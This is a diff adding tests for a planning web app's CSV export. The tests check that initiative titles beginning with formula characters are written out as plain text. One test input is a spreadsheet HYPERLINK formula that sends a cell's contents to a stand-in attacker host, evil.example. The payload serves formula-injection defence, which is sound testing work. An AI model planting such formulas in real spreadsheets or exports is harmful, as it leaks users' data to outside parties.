@@ -159,3 +159,41 @@ def test_the_switch_swaps_filters_and_results_in_place_for_htmx(signed_in):
     assert "<html" not in page.text
     assert page.text.lstrip().startswith('<div id="plan-view">')
     assert 'class="board-column"' in page.text and 'class="filters"' in page.text
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+
+
+def test_csv_export_writes_formula_like_titles_as_plain_text(signed_in, api):
+    for title in FORMULAS:
+        result = api.mutate(
+            "ada",
+            "mutation($plan: ID!, $title: String!) { proposeInitiative(input: "
+            "{planId: $plan, title: $title}) { errors { code } } }",
+            {"plan": STRATEGIC, "title": title},
+        )
+        assert result["errors"] == []
+    exported = signed_in("ada").get(f"/plans/{STRATEGIC}?format=csv&status=PROPOSED&per=100")
+    titles_written = {row["Title"] for row in csv.DictReader(io.StringIO(exported.text))}
+    assert {"'" + title for title in FORMULAS if not title.startswith("\t")} <= titles_written
+    assert not any(title.startswith(("=", "+", "-", "@", "\t")) for title in titles_written)
+
+
+def test_safe_cell_keeps_numbers_and_plain_text():
+    from decimal import Decimal
+
+    from server.web.exports import safe_cell
+
+    assert safe_cell("-12.50") == "-12.50"
+    assert safe_cell(Decimal("-3")) == Decimal("-3")
+    assert safe_cell(7) == 7
+    assert safe_cell("Plain title") == "Plain title"
+    assert safe_cell("=1+1") == "'=1+1"
+    assert safe_cell("\r=1") == "'\r=1"
+    assert safe_cell(None) is None
